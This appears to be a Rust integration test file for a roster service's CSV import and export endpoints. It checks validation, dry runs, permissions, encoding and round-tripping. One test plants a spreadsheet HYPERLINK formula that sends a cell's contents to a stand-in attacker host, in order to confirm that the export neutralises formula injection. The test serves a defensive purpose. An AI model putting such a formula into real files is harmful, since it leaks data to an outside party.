//! Importing the roster from CSV (all or nothing) and exporting it in the same columns.

use crate::common;

use actix_web::http::header;
use actix_web::test::TestRequest;
use common::TestApp;
use guanai::domain::roster::ExpertStatus;
use serde_json::json;

const SAMPLE: &str = include_str!("../../api_docs/experts_sample.csv");

fn csv_request(path: &str, token: &str, body: &str) -> TestRequest {
    TestRequest::post()
        .uri(path)
        .insert_header((header::AUTHORIZATION, format!("Bearer {token}")))
        .insert_header((header::CONTENT_TYPE, "text/csv"))
        .set_payload(body.to_owned())
}

fn expert_count(app: &TestApp) -> usize {
    app.with_conn(|conn| guanai::models::expert::Expert::all(conn).unwrap().len())
}

#[actix_web::test]
async fn the_sample_file_imports_with_one_time_tokens() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;

    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, SAMPLE))
        .await;

    let body = response.assert_status(201);
    assert_eq!(body["created"], 3);
    assert_eq!(body["experts"][2]["login"], "chen.yuzhen");
    assert_eq!(body["experts"][2]["line"], 4);
    let token = body["experts"][0]["set_password_token"].as_str().unwrap();
    app.post(
        "/api/v1/auth/set-password",
        None,
        json!({ "token": token, "new_password": "wang's own password" }),
    )
    .await;
    app.login("wang.xiulan", "wang's own password")
        .await
        .assert_status(200);

    let chen = app
        .get(
            &format!(
                "/api/v1/experts/{}",
                body["experts"][2]["expert_id"].as_str().unwrap()
            ),
            &admin,
        )
        .await;
    let chen = chen.assert_status(200);
    assert_eq!(chen["status"], "candidate");
    assert_eq!(chen["category"], "veteran_expert");
    assert_eq!(chen["primary_team"], "mental_health");
    assert_eq!(chen["modes"], json!(["online", "offline", "one_on_one"]));
    assert_eq!(chen["rest_weekdays"], json!([7]));
    assert_eq!(chen["specialties"], json!(["青春期心理", "情绪管理"]));
    assert_eq!(app.audit_actions("expert.imported").len(), 1);
    assert_eq!(app.audit_actions("expert.created").len(), 3);
}

#[actix_web::test]
async fn one_bad_row_imports_nothing_and_every_problem_is_listed() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.expert("taken.login", "reading", ExpertStatus::Active);
    let before = expert_count(&app);
    let file = "login,name,category,primary_team,birth_year\n\
                good.one,甲,老干部,reading,1950\n\
                taken.login,乙,老战士,ideology,1949\n\
                bad.one,丙,宇航员,天文,不详\n";

    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, file))
        .await;

    response.assert_problem(422, "validation_failed");
    let fields: Vec<&str> = response.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        [
            "rows[4].category",
            "rows[4].primary_team",
            "rows[4].birth_year"
        ]
    );
    assert_eq!(expert_count(&app), before);

    // With the bad row fixed, the taken login is still refused, and still nothing is written.
    let file = file.replace(
        "bad.one,丙,宇航员,天文,不详",
        "bad.one,丙,老专家,reading,1950",
    );
    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, &file))
        .await;
    response.assert_problem(422, "validation_failed");
    assert_eq!(response.body["errors"][0]["field"], "rows[3].login");
    assert_eq!(response.body["errors"][0]["code"], "taken");
    assert_eq!(expert_count(&app), before);
}

#[actix_web::test]
async fn a_dry_run_checks_and_writes_nothing() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;

    let response = app
        .call(csv_request(
            "/api/v1/experts/import?dry_run=true",
            &admin,
            SAMPLE,
        ))
        .await;

    let body = response.assert_status(200);
    assert_eq!(body["dry_run"], true);
    assert_eq!(body["created"], 3);
    assert!(body["experts"][0]["set_password_token"].is_null());
    assert_eq!(expert_count(&app), 0);
}

#[actix_web::test]
async fn only_admins_import_and_only_csv_is_taken() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.expert("plain", "reading", ExpertStatus::Active);
    let (expert, _) = app.tokens("plain").await;

    app.call(csv_request("/api/v1/experts/import", &expert, SAMPLE))
        .await
        .assert_problem(403, "forbidden");
    let json_body = TestRequest::post()
        .uri("/api/v1/experts/import")
        .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
        .set_json(json!({ "rows": [] }));
    app.call(json_body)
        .await
        .assert_problem(415, "unsupported_media_type");
    let huge = "x".repeat(5 * 1024 * 1024 + 1);
    app.call(csv_request("/api/v1/experts/import", &admin, &huge))
        .await
        .assert_problem(413, "payload_too_large");
    app.call(csv_request(
        "/api/v1/experts/import",
        &admin,
        "login,name\n",
    ))
    .await
    .assert_problem(422, "validation_failed");
}

#[actix_web::test]
async fn the_export_has_the_import_columns_and_reimports_cleanly() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.call(csv_request("/api/v1/experts/import", &admin, SAMPLE))
        .await
        .assert_status(201);

    let export = app.get("/api/v1/experts/export.csv", &admin).await;

    assert_eq!(export.status.as_u16(), 200);
    assert!(
        export
            .header("content-type")
            .unwrap()
            .starts_with("text/csv")
    );
    let raw = export.body.as_str().unwrap().to_owned();
    let text = raw
        .strip_prefix('\u{feff}')
        .expect("the export starts with a BOM, so Excel reads it as UTF-8")
        .to_owned();
    assert_eq!(
        text.lines().next(),
        SAMPLE.lines().next(),
        "export and sample share the header"
    );
    assert_eq!(text.lines().count(), 4);
    assert!(text.contains("chen.yuzhen,陈玉珍,female,1955,veteran_expert"));

    // The export re-imports into an empty roster as the same experts.
    let fresh = TestApp::new().await;
    let (_, fresh_admin) = fresh.admin().await;
    let reimport = fresh
        .call(csv_request("/api/v1/experts/import", &fresh_admin, &text))
        .await;
    assert_eq!(reimport.assert_status(201)["created"], 3);
    let again = fresh.get("/api/v1/experts/export.csv", &fresh_admin).await;
    assert_eq!(again.body.as_str().unwrap(), raw);

    let (_, _) = app.school_account("school.a");
    let (school, _) = app.tokens("school.a").await;
    app.get("/api/v1/experts/export.csv", &school)
        .await
        .assert_problem(403, "forbidden");
}

#[actix_web::test]
async fn exported_cells_never_run_as_formulas_and_come_back_as_they_were() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
    let lin = app.expert("lin.evil", "reading", ExpertStatus::Active);
    let (as_lin, _) = app.tokens("lin.evil").await;
    app.patch(
        &format!("/api/v1/experts/{}", lin.id),
        &as_lin,
        None,
        json!({ "bio": evil, "phone": "+8613800000000", "specialties": ["-亲子沟通", "@阅读"] }),
    )
    .await
    .assert_status(200);

    let export = app.get("/api/v1/experts/export.csv", &admin).await;
    let raw = export.body.as_str().unwrap().to_owned();
    let text = raw.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in the export: {cell:?}"
            );
        }
    }
    assert!(text.contains("'+8613800000000"));

    // Re-imported elsewhere, the cells are what they were.
    let fresh = TestApp::new().await;
    let (_, fresh_admin) = fresh.admin().await;
    fresh
        .call(csv_request("/api/v1/experts/import", &fresh_admin, &raw))
        .await
        .assert_status(201);
    let experts = fresh.get("/api/v1/experts?q=hyperlink", &fresh_admin).await;
    let expert = &experts.assert_status(200)["items"][0];
    assert_eq!(expert["bio"], evil);
    assert_eq!(expert["phone"], "+8613800000000");
    assert_eq!(expert["specialties"], json!(["-亲子沟通", "@阅读"]));
}

#[actix_web::test]
async fn a_file_saved_by_excel_on_chinese_windows_imports() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(SAMPLE);
    assert!(!unmappable);

    let response = app
        .call(
            TestRequest::post()
                .uri("/api/v1/experts/import")
                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
                .insert_header((header::CONTENT_TYPE, "text/csv"))
                .set_payload(gbk.into_owned()),
        )
        .await;

    assert_eq!(response.assert_status(201)["created"], 3);
    let names: Vec<String> = app.with_conn(|conn| {
        guanai::models::expert::Expert::all(conn)
            .unwrap()
            .into_iter()
            .map(|e| e.name)
            .collect()
    });
    assert!(names.contains(&"陈玉珍".to_owned()), "{names:?}");

    let garbage = app
        .call(
            TestRequest::post()
                .uri("/api/v1/experts/import")
                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
                .insert_header((header::CONTENT_TYPE, "text/csv"))
                .set_payload(vec![0xff, 0xfe, 0xfd, 0x80, 0x81]),
        )
        .await;
    garbage.assert_problem(422, "validation_failed");
    assert_eq!(garbage.body["errors"][0]["code"], "invalid_encoding");
}
